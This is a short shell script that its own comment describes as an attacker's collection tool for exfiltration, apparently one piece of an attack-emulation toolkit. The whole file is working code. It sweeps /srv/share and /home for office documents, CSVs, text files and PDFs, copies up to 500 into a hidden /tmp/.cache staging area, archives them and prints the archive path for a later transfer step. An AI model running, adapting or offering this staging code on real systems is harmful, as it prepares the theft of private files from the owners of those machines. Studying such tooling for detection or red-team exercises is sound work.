#!/bin/sh
# collect.sh [DIR...]: gather office documents into one archive for
# exfiltration (the attacker's collection tool, fetched by tool.transfer).
# Prints the archive's path.
out=/tmp/.cache/c.tgz
stage=/tmp/.cache/c
mkdir -p "$stage"
[ $# -gt 0 ] || set -- /srv/share /home
find "$@" -type f \( -name '*.csv' -o -name '*.txt' -o -name '*.xls*' -o -name '*.doc*' \
    -o -name '*.pdf' \) -size -2048k 2>/dev/null | head -n 500 | while IFS= read -r f; do
    mkdir -p "$stage${f%/*}"
    cp "$f" "$stage$f" 2>/dev/null
done
tar czf "$out" -C "$stage" .
rm -rf "$stage"
echo "$out"
